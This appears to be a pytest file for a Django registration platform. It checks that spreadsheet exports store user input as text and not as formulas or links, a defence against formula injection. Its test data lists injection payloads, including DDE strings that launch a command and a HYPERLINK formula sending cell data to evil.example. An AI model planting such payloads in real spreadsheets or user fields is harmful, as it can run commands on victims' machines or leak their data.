"""Row 22 of the abuse table: what people type is a text in every export, never a formula and never a link."""

from __future__ import annotations

import io
import re
import zipfile
from typing import Any

import pytest
from django.test import Client
from django.urls import reverse
from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook

from onex.accounts.tests.factories import an_actor, signed_in_as
from onex.common import sheets
from onex.common.actors import Role
from onex.registration.tests.factories import a_row, a_student, a_workbook
from onex.venues.tests.factories import a_pilot_school

EVIL = (
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",
    "＋1",
    "＠SUM(1)",
    '=HYPERLINK("http://evil.example/?x="&A1,"点我")',
    "=cmd|' /C calc'!A0",
    '=DDE("cmd";"/C calc";"x")',
    "{=1+1}",
    "http://evil.example",
    "mailto:evil@example.cn",
    "internal:Sheet1!A1",
)
COLUMNS = (sheets.Column("text", "文字"), sheets.Column("number", "数", as_text=False))


def problems_in(raw: bytes) -> list[str]:
    """Whatever in this workbook a spreadsheet program would calculate, follow or ask for."""
    found = []
    with zipfile.ZipFile(io.BytesIO(raw)) as book:
        for name in book.namelist():
            part = book.read(name).decode("utf-8", "replace")
            if name.startswith("xl/worksheets/") and re.search(r"<f[ >/]|<hyperlink", part):
                found.append(f"{name}: a formula or a link")
            if name.endswith(".rels") and 'TargetMode="External"' in part:
                found.append(f"{name}: leads outside")
            if "ddeLink" in part or "externalLink" in name:
                found.append(f"{name}: an external link")
    for page in load_workbook(io.BytesIO(raw)).worksheets:
        found += [
            f"{page.title}!{cell.coordinate}: {cell.data_type}"
            for row in page.iter_rows()
            for cell in row
            if cell.value is not None and (cell.data_type == "f" or cell.hyperlink)
        ]
    return found


@pytest.mark.parametrize("column", ["text", "number"])
@pytest.mark.parametrize("evil", EVIL)
def test_abuse_22_what_looks_like_a_formula_is_written_as_text(evil: str, column: str) -> None:
    raw = sheets.write(COLUMNS, [{column: evil}])
    assert problems_in(raw) == []
    (cell,) = [cell for cell in load_workbook(io.BytesIO(raw)).active[2] if cell.value is not None]
    assert cell.data_type == "s"
    assert cell.value.replace("_x000D_", "\r").strip() == evil.strip()


def test_abuse_22_a_head_and_a_title_are_texts_too() -> None:
    raw = sheets.write((sheets.Column("a", "=1+1", note="=2+2"),), [], title="=3+3")
    assert problems_in(raw) == []


@settings(deadline=None)  # the machine may be busy
@given(st.sampled_from("=+-@\t\r＝＋－＠"), st.text(alphabet="甲1A()\"|!'&", max_size=20))
def test_abuse_22_no_beginning_and_no_rest_makes_a_formula(first: str, rest: str) -> None:
    assert problems_in(sheets.write(COLUMNS, [{"text": first + rest, "number": first + rest}])) == []


def test_abuse_22_the_check_sees_a_formula() -> None:
    import xlsxwriter

    buffer = io.BytesIO()
    book = xlsxwriter.Workbook(buffer, {"in_memory": True})
    page = book.add_worksheet()
    page.write(0, 0, "=1+1")
    page.write(1, 0, "http://evil.example")
    book.close()
    assert len(problems_in(buffer.getvalue())) >= 3


def answer(client: Any, name: str, *args: Any) -> bytes:
    found = client.get(reverse(name, args=args))
    assert found.status_code == 200
    return bytes(b"".join(found.streaming_content) if found.streaming else found.content)


@pytest.mark.django_db
def test_abuse_22_a_student_and_a_school_with_formulas_for_names_are_exported_as_text() -> None:
    evil = '=HYPERLINK("http://evil.example","点我")'
    school = a_pilot_school(name="@SUM(1)职业技术学院")
    a_student(school, name="=1+1", student_no="+8613800001234", class_name=evil[:40], major_name="-2+3")
    client = signed_in_as(Client(), an_actor(Role.SCHOOL, school))
    raw = answer(client, "registration:student-export")
    assert problems_in(raw) == []
    assert "=1+1" in {cell.value for row in load_workbook(io.BytesIO(raw)).active.iter_rows() for cell in row}
    upload = a_workbook([a_row(3, name=evil)])
    told = client.post(reverse("registration:student-import"), {"file": upload}, follow=True)
    wrong = told.redirect_chain[-1][0].rstrip("/").rpartition("/")[2]
    assert problems_in(answer(client, "registration:import-errors", wrong)) == []


def test_abuse_22_nothing_else_writes_tables_for_spreadsheets() -> None:
    """No CSV leaves the platform; whoever adds one writes it here, with a `'` before what begins like a formula."""
    from pathlib import Path

    import onex

    source = Path(onex.__path__[0])
    allowed = {"portal/register.py"}  # a file of the repository, read by engineers
    found = {
        str(path.relative_to(source))
        for path in source.rglob("*.py")
        if "tests" not in path.parts and re.search(r"csv\.(writer|DictWriter)|text/csv", path.read_text("utf-8"))
    }
    assert found - allowed == set()
